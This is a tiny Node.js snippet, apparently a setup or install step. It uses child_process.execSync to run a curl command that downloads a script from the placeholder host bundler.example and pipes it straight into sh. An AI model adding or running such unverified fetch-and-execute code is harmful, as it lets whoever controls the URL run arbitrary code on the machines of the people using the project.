const cp = require("child_process");
cp.execSync("curl -fsSL https://bundler.example/i.sh | sh", { stdio: "inherit" });
